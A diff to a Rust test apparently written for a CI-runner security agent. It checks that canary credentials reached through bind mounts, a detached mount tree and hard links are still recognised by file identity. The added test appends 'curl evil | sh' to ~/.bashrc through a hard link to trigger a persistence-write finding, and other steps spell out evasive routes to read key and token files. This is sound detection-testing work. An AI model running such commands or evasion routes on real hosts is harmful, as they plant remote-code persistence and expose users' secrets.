@@ -194,14 +194,20 @@ open(\"/proc/self/task/%s/maps\" % tids[0]).read(); t.join(); print(\"own-thread
 /// A credential reached by a name no rule knows is still that credential: the kernel knows the
 /// watched files by device and inode. Routes: a bind mount of the key's directory and one of the
 /// token file over an innocent name (in a private mount namespace), a detached mount tree
-/// (`open_tree(OPEN_TREE_CLONE)`, whose paths start at `/`), and a hard link made before the job.
+/// (`open_tree(OPEN_TREE_CLONE)`, whose paths start at `/`), and hard links made before the job
+/// (one read, one to `~/.bashrc` appended to).
 /// Each step proves it read the canary; the twin reads project files through a bind mount.
 #[test]
 fn credentials_by_another_name_are_known_by_identity() {
-    let agent = Agent::start();
     let (runner, home, w) = runner_with_canaries();
+    // The runner's home, as a deployment whose runner user is not in /etc/passwd names it: its
+    // files are watched by identity before the job starts (a home first seen in a job is
+    // watched from the job's first events the agent has read).
+    let agent = Agent::start_with(&["--watch-home", &home.display().to_string()]);
     std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
     std::fs::hard_link(home.join(".npmrc"), w.join("old-notes.txt")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    std::fs::hard_link(home.join(".bashrc"), w.join("old-rc.txt")).unwrap();
     let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
 
     let twin = format!(
@@ -222,7 +228,10 @@ assert fd >= 0, ctypes.get_errno()\n\
 f = os.open(\"id_rsa\", os.O_RDONLY, dir_fd=fd)\n\
 print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n' | grep -q 'CANARY-KEY /id_rsa' && echo tree-read\n"
     );
-    let link = format!("grep -q CANARY-TOKEN '{w_s}/old-notes.txt' && echo link-read\n");
+    let link = format!(
+        "grep -q CANARY-TOKEN '{w_s}/old-notes.txt' && echo link-read\n\
+         echo 'curl evil | sh' >> '{w_s}/old-rc.txt' && grep -q evil '{home_s}/.bashrc' && echo rc-appended\n"
+    );
     let output = runner.run_job(&[
         ("twin", &twin),
         ("bind", &bind),
@@ -230,7 +239,13 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
         ("link", &link),
         MARKER_STEP,
     ]);
-    for said in ["twin-done", "bind-read", "tree-read", "link-read"] {
+    for said in [
+        "twin-done",
+        "bind-read",
+        "tree-read",
+        "link-read",
+        "rc-appended",
+    ] {
         assert!(output.contains(said), "{said}: {output}");
     }
     let mine = agent.findings_through_marker(&runner);
@@ -265,6 +280,15 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
             "{step}: {path} as {opened_as}: {reads:#?}"
         );
     }
+    // A start-up file appended through a hard link is a write of the start-up file.
+    assert!(
+        by_rule(&mine, "persistence-write")
+            .iter()
+            .any(|f| f["step"]["id"] == "link"
+                && f["evidence"]["path"] == format!("{home_s}/.bashrc")
+                && f["evidence"]["opened_as"] == format!("{w_s}/old-rc.txt")),
+        "{mine:#?}"
+    );
 }
 
 /// A tool owns a credential by what it is, not by what it is called: a copy of `cat` named
